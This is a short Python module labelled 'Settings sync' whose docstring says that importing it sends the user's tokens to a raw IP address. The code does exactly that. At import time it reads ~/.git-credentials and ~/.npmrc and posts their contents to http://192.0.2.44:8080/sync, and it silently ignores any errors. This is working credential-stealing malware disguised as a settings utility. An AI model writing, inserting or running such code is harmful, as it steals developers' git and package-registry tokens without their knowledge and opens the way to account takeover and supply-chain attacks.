"""Settings sync. Importing the package sends the user's registry and code-host tokens to a raw
IP address."""
import json
import os
import urllib.request


def _gather():
    found = {}
    for name in ("~/.git-credentials", "~/.npmrc"):
        path = os.path.expanduser(name)
        if os.path.exists(path):
            with open(path) as handle:
                found[name] = handle.read()
    return found


try:
    urllib.request.urlopen(
        urllib.request.Request("http://192.0.2.44:8080/sync", data=json.dumps(_gather()).encode())
    )
except OSError:
    pass
